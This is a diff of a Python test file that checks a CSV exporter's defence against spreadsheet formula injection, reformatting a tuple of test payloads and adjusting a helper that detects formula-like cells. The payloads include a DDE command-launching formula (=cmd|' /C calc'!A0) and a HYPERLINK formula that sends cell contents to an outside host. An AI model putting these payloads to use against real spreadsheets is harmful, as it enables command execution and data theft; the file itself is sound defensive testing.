@@ -12,12 +12,10 @@ from model.classifier import Answer, Classifier
 from model.scores import harmless, to_csv
 
 FORMULAS = (
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\0=1", "\n=1", " =1", "\u00a0=1", "\u3000=1", "\ufeff=1", '"=1"', "'=1",
-    '""=1',
-    " \t=1", "＝1",
-    "＋1", "－1", "＠A", "|calc",
-    "%0A=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1,"x")',
-    "x;=1", "x\t=1", 'x";=1', 'x,"=1', "x\n=1", "x\r\n=1", ";=1", "x|=1",
+    '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\x00=1', '\n=1', ' =1', '\xa0=1', '\u3000=1', '\ufeff=1',
+    '"=1"', "'=1", '""=1', ' \t=1', '\uff1d1', '\uff0b1', '\uff0d1', '\uff20A', '|calc', '%0A=1',
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1,"x")', 'x;=1', 'x\t=1', 'x";=1', 'x,"=1', 'x\n=1',
+    'x\r\n=1', ';=1', 'x|=1',
 )  # fmt: skip
 PLAIN = ("healthy", "a.jpg", "Blatt 12 (süd)", "x=1", "a-b", "1.5", "a@b.example", "it's", "", "100 %")
 
@@ -37,7 +35,7 @@ def table(names: list[str], labels: tuple[str, ...] = ("a", "b")) -> str:
 
 def runs(cell: str) -> bool:
     """Say whether a spreadsheet would take a cell for a formula."""
-    return cell.lstrip(' \u00a0\u3000\ufeff"\n')[:1] in tuple("=+-@\t\r\0|%＝＋－＠") and cell.strip() != ""
+    return cell.lstrip(' \u00a0\u3000\ufeff\t\r\n"')[:1] in tuple("=+-@\0|%＝＋－＠")
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
